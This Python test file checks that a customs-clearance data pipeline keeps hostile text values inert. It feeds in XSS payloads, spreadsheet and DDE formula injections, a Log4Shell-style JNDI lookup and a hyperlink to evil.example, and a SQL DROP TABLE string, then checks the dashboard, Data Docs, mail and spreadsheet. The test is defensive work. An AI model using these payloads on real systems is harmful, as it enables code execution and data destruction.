"""A delivery with hostile values in every text field (issue #10, "What done looks like").

Separators, quotes, markup that ends a script or a comment, spreadsheet formulas, NUL, line and paragraph
separators, template and lookup syntax, SQL, line breaks inside quoted values and very long values: in
the free-text fields of valid rows (which must load, value for value), and in coded fields (which must
be quarantined with their reason). Then, as people meet them: every row accounted for, the dashboard
and the Data Docs opened in Chromium with no dialog, no script run and every chart drawn, the alert
mail and its spreadsheet attachment without a live formula and with every value as text.
"""

from __future__ import annotations

import io
from pathlib import Path

import duckdb
import openpyxl
import pytest

from clearance.contract import data_file_name
from clearance_tools.delivery_writer import write_delivery
from clearance.pipeline import run_business_date
from tests.browser import Watched, artifacts_dir
from tests.conftest import state_file
from tests.deliveries import cargo_event, container, dec_head, entry_id, manifest_line, receipt, vessel_event
from tests.test_alerts import free_port, smtp_connection

D1, D2 = "2026-11-20", "2026-11-21"
HOSTILE = [
    "\x1f|\x1e;\t,",
    '"quoted, with a comma" and ""doubled"" quotes',
    "<script>window.__injected=1;alert('script')</script>",
    "<!--<script>",
    "</script><img src=x onerror=\"window.__injected=2;alert('img')\">",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "NUL\x00inside",
    "line\u2028and paragraph\u2029separators",
    "{{ 7*7 }} ${jndi:ldap://evil.example/a} %s %n",
    "'); DROP TABLE core_shipments; --",
    "大连\r\n第二行 second line",
    "很长 long " * 2000,  # 16,000 characters
]


def framed(value: str) -> str:
    """Inside other text: values are stripped of surrounding blanks on load, the value itself must survive."""
    return f"A{value}Z"


def hostile_delivery(inbox: Path) -> dict[str, int]:
    """Returns the rows expected in quarantine per file kind (those with a hostile value in a coded field)."""
    heads, results, lines, calls, cargo = [], [], [], [], []
    for n, value in enumerate(HOSTILE, start=1):
        shipment, bill = entry_id(n), framed(value)
        # the owner as it came (only surrounding blanks are stripped on load), the rest inside other text
        heads.append(dec_head(shipment, "2026-11-20 01:00:00", bill=bill, owner_name=value,
                              voyage=framed(value)) | {"OWNER_CODE": framed(value), "TRADE_MODE": framed(value)})
        # accepted, never released: stalled (accepted, not released, 24 h) at the end of the next day
        results.append(receipt(shipment, "L", "2026-11-20 02:00:00", note=framed(value)))
        lines.append(manifest_line(bill, container(500000 + n)))
        calls.append(vessel_event("ATA_ANCH", f"2026-11-20 00:{n:02d}:00") | {"SOURCE": framed(value)})
        cargo.append(cargo_event(bill, "DISC_DONE", "2026-11-20 03:00:00", container(500000 + n)))
        # the same value in coded fields: quarantined, and shown in the Data Docs
        results.append(receipt(shipment, value, "2026-11-20 04:00:00", note=framed(value)))
        cargo.append(cargo_event(bill, value, "2026-11-20 05:00:00", container(500000 + n)))
    write_delivery(inbox, D1, {"dec_head": heads, "dec_result": results, "manifest": lines, "vessel_event": calls,
                               "cargo_event": cargo})
    write_delivery(inbox, D2, {"vessel_event": [vessel_event("ATA_BERTH", "2026-11-21 01:00:00")]})
    return {"dec_result": len(HOSTILE), "cargo_event": len(HOSTILE)}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    from clearance_tools.mailsink import start

    root = tmp_path_factory.mktemp("hostile")
    inbox, warehouse = root / "inbox", root / "warehouse" / "clearance.duckdb"
    expected_quarantine = hostile_delivery(inbox)
    port = free_port()
    controller, mail = start(root / "mail", port)
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("CLEARANCE_INBOX", str(inbox))
            mp.setenv("CLEARANCE_WAREHOUSE", str(warehouse))
            mp.setenv("CLEARANCE_DASHBOARD", str(root / "dashboards" / "clearance_dashboard.html"))
            mp.setenv("AIRFLOW_CONN_SMTP_DEFAULT", smtp_connection(port))
            run_business_date(D1)
            run_business_date(D2)
    finally:
        controller.stop()
    return warehouse, root / "dashboards" / "clearance_dashboard.html", mail.received, expected_quarantine


def query(path: Path, sql: str, params=()) -> list[tuple]:
    with duckdb.connect(str(path), read_only=True) as con:
        return con.execute(sql, list(params)).fetchall()


def test_every_row_is_accounted_for_and_every_value_kept_as_it_came(hostile):
    warehouse, _, _, expected_quarantine = hostile
    accounting = {r[0]: r[1:] for r in query(warehouse, "SELECT source_file, rows_read, rows_loaded, rows_duplicate, "
                                                        "rows_quarantined FROM file_accounting WHERE export_date = ?", [D1])}
    per_file = {"dec_head": 1, "dec_result": 2, "manifest": 1, "vessel_event": 1, "cargo_event": 2}
    for kind, rows_per_value in per_file.items():
        read = rows_per_value * len(HOSTILE)
        quarantined = expected_quarantine.get(kind, 0)
        assert accounting[data_file_name(kind, D1, 1)] == (read, read - quarantined, 0, quarantined), kind
    state = state_file(warehouse)
    framed_values = sorted(framed(v) for v in HOSTILE)
    assert sorted(v for (v,) in query(state, "SELECT owner_name FROM land_dec_head")) == sorted(v.strip() for v in HOSTILE)
    for table, column in (("land_dec_head", "owner_code"),
                          ("land_dec_head", "trade_mode"), ("land_dec_head", "voyage_no"),
                          ("land_dec_head", "bill_no"), ("land_dec_result", "note"), ("land_vessel_event", "source")):
        assert sorted(v for (v,) in query(state, f"SELECT {column} FROM {table} WHERE {column} LIKE 'A%Z'")) == \
            framed_values, (table, column)
    reasons = query(warehouse, "SELECT file_kind, reason_code, count(*) FROM quarantine GROUP BY ALL ORDER BY ALL")
    assert reasons == [("cargo_event", "unknown_event_code", len(HOSTILE)), ("dec_result", "unknown_channel", len(HOSTILE))]


def test_the_stalled_shipments_carry_the_hostile_owners(hostile):
    warehouse, *_ = hostile
    owners = sorted(o for (o,) in query(warehouse, "SELECT owner_name FROM mart_stalled_shipments "
                                                   "WHERE stage = 'accepted_not_released'"))
    assert owners == sorted(v.strip() for v in HOSTILE)


def open_page(browser, path: Path):
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    page.route("**/*", lambda route: route.continue_() if route.request.url.startswith("file:") else route.abort())
    watched = Watched(page)
    page.goto(path.as_uri())
    page.wait_for_load_state("load")
    page.wait_for_timeout(500)  # an onerror or onload would have fired by now
    return page, watched


def test_the_dashboard_opens_with_every_chart_drawn_and_nothing_run(browser, hostile):
    _, dashboard, _, _ = hostile
    page, watched = open_page(browser, dashboard)
    try:
        charts = page.locator(".js-plotly-plot")
        assert charts.count() >= 8
        for i in range(charts.count()):
            assert page.evaluate("e => (e.data || []).length", charts.nth(i).element_handle()) > 0, f"chart {i} empty"
        text = page.inner_text("body")
        for value in HOSTILE[2:5]:  # the markup is shown as the text it is (in the stalled list's owners)
            assert value in text, value
        page.screenshot(path=artifacts_dir() / "hostile-dashboard.png", full_page=True)
        watched.assert_clean()
    finally:
        page.close()


def test_every_data_docs_page_opens_with_nothing_run(browser, hostile):
    warehouse, *_ = hostile
    pages = sorted((warehouse.parent / "data_docs").rglob("*.html"))
    assert len(pages) >= 5
    for path in pages:
        page, watched = open_page(browser, path)
        try:
            assert page.locator("img[src=x], section script, td script").count() == 0, path
            watched.assert_clean()
        finally:
            page.close()
    failing = [p for p in pages if "dec_result" in str(p) and "validations" in str(p)][0]
    page, _ = open_page(browser, failing)
    try:
        text = page.inner_text("body")
        assert "<script>window.__injected=1;alert('script')</script>" in text
        page.screenshot(path=artifacts_dir() / "hostile-data-docs.png", full_page=True)
    finally:
        page.close()


def test_the_alert_mail_and_its_spreadsheet_hold_no_live_formula(hostile):
    _, _, received, _ = hostile
    [(_, recipients, message)] = [m for m in received if "0900" in m[2]["Subject"]]
    html = message.get_body(preferencelist=("html",)).get_content()
    assert "<script>" not in html and "<img src=x" not in html and "<!--<script>" not in html
    assert "&lt;script&gt;window.__injected=1" in html
    [attachment] = [part for part in message.iter_attachments() if part.get_filename().endswith(".xlsx")]
    book = openpyxl.load_workbook(io.BytesIO(attachment.get_content()))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells)  # text, never a formula ("f")
    owners = {cell.value for cell in cells}
    for formula in HOSTILE[5:9]:  # =HYPERLINK(...), +SUM, -2+3, @cmd: text cells, as they came
        assert formula in owners, formula
    assert all(entry_id(n) in owners for n in range(1, len(HOSTILE) + 1))
